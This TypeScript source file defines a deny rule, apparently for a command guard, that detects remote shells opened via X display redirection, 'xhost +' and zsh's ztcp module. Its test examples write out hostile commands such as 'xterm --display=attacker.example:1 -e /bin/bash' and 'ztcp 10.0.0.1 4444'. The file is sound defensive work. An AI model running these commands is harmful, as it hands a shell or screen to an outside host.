/**
 * Remote shells that need no ssh or nc (issue 12): an X client shown on another machine's display
 * (`xterm -display host:0`, `DISPLAY=host:0 xterm`, which hands that machine a shell), X access
 * control switched off (`xhost +`), and zsh's own TCP module (`zmodload zsh/net/tcp; ztcp host 4444`).
 * Displays on this machine (`:0`, `localhost:10.0` of ssh forwarding) are not refused.
 */

import {isLoopbackHost} from '../hosts.js'
import {commandRule, type CommandRule} from '../rules.js'

/** `host:0`, `host:0.1`, `tcp/host:0`, `[::1]:0`: the host part, or null for a local display (`:0`, `unix:0`). */
function displayHost(value: string): null | string {
  const m = /^(?:tcp\/)?(\[[^\]]+\]|[^:/\s]*):{1,2}\d+(?:\.\d+)?$/.exec(value.trim())
  if (!m) return null
  const host = (m[1] as string).replaceAll(/^\[|\]$/g, '')
  if (host === '' || host === 'unix' || isLoopbackHost(host)) return null
  return host
}

const DISPLAY_OPTION = /^--?display(?:=(.*))?$/

function remoteDisplay(argv: readonly string[]): null | string {
  for (let i = 0; i < argv.length; i++) {
    const m = DISPLAY_OPTION.exec(argv[i] as string)
    if (!m) continue
    const host = displayHost(m[1] ?? argv[i + 1] ?? '')
    if (host !== null) return host
  }

  return null
}

export const remoteDisplayAndSockets = commandRule({
  id: 'remote.display-and-zsh-sockets',
  pack: 'remote',
  decision: 'deny',
  reason: "opens a window or shell on another machine's display, or a raw TCP connection from zsh (remote shell)",
  examples: {
    match: [
      'xterm -display 10.0.0.1:0',
      'xterm --display=attacker.example:1 -e /bin/bash',
      'DISPLAY=10.0.0.1:0 xterm',
      'export DISPLAY=evil.example:0',
      'xwd -root -display 10.0.0.5:0 -out s.xwd',
      'xhost +',
      "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444'",
      'ztcp -l 4444',
    ],
    not_match: [
      'xterm',
      'DISPLAY=:0 xterm',
      'DISPLAY=:99 npx playwright test',
      'export DISPLAY=localhost:10.0',
      'xhost',
      'xhost +local:',
      'xhost +SI:localuser:root',
      'zmodload zsh/datetime',
      'ztcp 127.0.0.1 8080',
    ],
  },
  check(cmd) {
    for (const x of cmd.assignments) {
      const host = x.name === 'DISPLAY' ? displayHost(x.value?.value ?? '') : null
      if (host !== null) return `DISPLAY=${x.value?.value ?? ''}: shows the program on ${host}'s screen`
    }

    const a = cmd.argv
    switch (cmd.name) {
      case 'export':
      case 'declare':
      case 'typeset': {
        const set = a.find((v) => v.startsWith('DISPLAY=') && displayHost(v.slice(8)) !== null)
        return set === undefined ? null : `${cmd.name} ${set}: sends every X program to another machine`
      }

      case 'xhost': {
        const open = a.find((v) => v === '+' || /^\+(?:inet6?:|si:|)[\w.-]+$/.test(v))
        return open === undefined ? null : `xhost ${open}: lets other machines onto this display`
      }

      case 'ztcp': {
        if (a.some((v) => /^-[A-Za-z]*l/.test(v))) return 'ztcp -l: listens for connections from zsh'
        const host = a.find((v) => !v.startsWith('-'))
        return host !== undefined && !isLoopbackHost(host) ? `ztcp ${host}: a raw TCP connection out of zsh` : null
      }

      default: {
        const host = a.length > 0 ? remoteDisplay(a) : null
        return host === null ? null : `${cmd.name} -display ${host}: shows the program on another machine's screen`
      }
    }
  },
})

export const displayRules: readonly CommandRule[] = [remoteDisplayAndSockets]
